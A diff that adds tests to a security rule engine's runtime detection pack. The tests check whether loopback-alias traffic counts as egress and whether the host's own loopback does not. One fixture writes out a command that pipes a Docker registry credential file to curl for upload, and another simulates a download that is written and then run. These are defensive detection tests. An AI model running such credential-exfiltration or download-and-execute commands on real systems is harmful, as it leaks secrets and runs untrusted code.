@@ -561,6 +561,56 @@ describe('runtime pack', () => {
     expect(f.map((x) => x.ruleId)).toEqual(['vigil.runtime.sensitive-file-read']);
   });
 
+  describe("with no baseline, a loopback alias is egress and the host's own loopback is not", () => {
+    const run = (events: readonly VigilEvent[]) =>
+      new RuleEngine({ packs: [runtimePack], rateLimit: false }).process([fork(999), ...events]);
+    const highOrAbove = (events: readonly VigilEvent[]) =>
+      run(events)
+        .filter((f) => f.severity === 'high' || f.severity === 'critical')
+        .map((f) => f.ruleId);
+    const shell = (cmd: string) => exec('/bin/sh', ['sh', '-c', cmd], { pid: 900, ppid: 100 });
+
+    it('a registry credential piped to curl at 127.0.0.4 earns credential-then-egress', () => {
+      const f = run([
+        shell('cat ~/.docker/config.json | curl -s -T - http://127.0.0.4:38111/upload'),
+        open('/root/.docker/config.json', 'read', { pid: 901, ppid: 900 }),
+        exec('/usr/bin/curl', ['curl', '-s', '-T', '-', 'http://127.0.0.4:38111/upload'], {
+          pid: 902,
+          ppid: 900,
+        }),
+        connect('127.0.0.4', 38111, { pid: 902, ppid: 900 }),
+      ]);
+      expect(f.filter((x) => x.ruleId === `${R}credential-then-egress`)).toHaveLength(1);
+    });
+
+    it('a download from 127.0.0.4 written and run earns download-write-exec', () => {
+      const f = run([
+        connect('127.0.0.4', 38111, { pid: 910 }),
+        open('/opt/update', 'write', { pid: 910, created: true }),
+        exec('/opt/update', ['/opt/update'], { pid: 911, ppid: 910 }),
+      ]);
+      expect(f.filter((x) => x.ruleId === `${R}download-write-exec`)).toHaveLength(1);
+    });
+
+    it.each([
+      ['~/.pgpass, then PostgreSQL on 127.0.0.1', '127.0.0.1', 5432, 'inet'],
+      ['~/.pgpass, then PostgreSQL on ::1', '::1', 5432, 'inet6'],
+      ['~/.pgpass, then the host name (127.0.1.1)', '127.0.1.1', 5432, 'inet'],
+      ['~/.pgpass, then the stub resolver on 127.0.0.53', '127.0.0.53', 53, 'inet'],
+    ] as const)(
+      '%s: no chain, only the read itself (which a baseline learns)',
+      (_name, addr, port, family) => {
+        expect(
+          highOrAbove([
+            exec('/usr/bin/psql', ['psql', '-h', 'localhost'], { pid: 920 }),
+            open('/root/.pgpass', 'read', { pid: 920 }),
+            connect(addr, port, { pid: 920, family }),
+          ]),
+        ).toEqual([`${R}sensitive-file-read`]);
+      },
+    );
+  });
+
   it('does not run baseline-aware rules on workloads the baseline does not cover', () => {
     const baseline = MemoryBaselineView.fromEvents(BASE_LEARN);
     const engine = new RuleEngine({ packs: [runtimePack], baseline });
